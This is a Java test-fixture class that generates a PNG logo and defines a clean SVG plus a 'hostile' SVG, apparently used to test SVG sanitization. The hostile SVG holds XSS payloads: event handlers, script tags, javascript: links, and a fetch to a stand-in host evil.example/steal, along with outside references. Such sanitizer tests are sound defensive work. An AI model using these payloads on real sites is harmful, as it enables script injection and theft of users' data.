package com.zoomfactor.backend.branding;

import io.vertx.core.buffer.Buffer;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import javax.imageio.ImageIO;

/** Logo files for tests: a real PNG drawn here, and SVGs. */
public final class Logos {

    private Logos() {
    }

    /** A {@code width}×{@code height} PNG: a coloured block with a white bar, as a small logo would be. */
    public static Buffer png(int width, int height, Color colour) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_ARGB);
        Graphics2D g = image.createGraphics();
        g.setColor(colour);
        g.fillRoundRect(0, 0, width, height, height / 3, height / 3);
        g.setColor(Color.WHITE);
        g.fillRect(width / 6, height / 2 - height / 10, width * 2 / 3, height / 5);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, "png", out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return Buffer.buffer(out.toByteArray());
    }

    public static final String CLEAN_SVG = """
            <svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">
              <rect width="120" height="40" rx="8" fill="#aa3300"/>
              <text x="12" y="27" fill="#fff" font-size="18">Northwind</text>
            </svg>""";

    /** Everything a hostile SVG carries: a script, handlers, foreign HTML, outside references, an image, a link. */
    public static final String HOSTILE_SVG = """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50"
                 onload="alert(1)">
              <script>alert('svg')</script>
              <script><![CDATA[fetch('https://evil.example/steal')]]></script>
              <rect width="100" height="50" fill="url(https://evil.example/paint#p)" onclick="alert(2)"/>
              <circle cx="10" cy="10" r="5" style="fill: url(http://evil.example/x)"/>
              <circle id="dot" cx="20" cy="10" r="5" fill="url(#grad)"/>
              <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
              <image href="https://evil.example/pixel.png" width="1" height="1"/>
              <a href="javascript:alert(3)"><text x="1" y="40">Click</text></a>
              <use xlink:href="https://evil.example/sprite.svg#icon"/>
              <use href="#dot" x="10"/>
              <animate attributeName="href" to="javascript:alert(4)"/>
              <set attributeName="onmouseover" to="alert(5)"/>
              <style>@import url(https://evil.example/style.css);</style>
              <linearGradient id="grad"><stop offset="0" stop-color="#000"/></linearGradient>
            </svg>""";
}
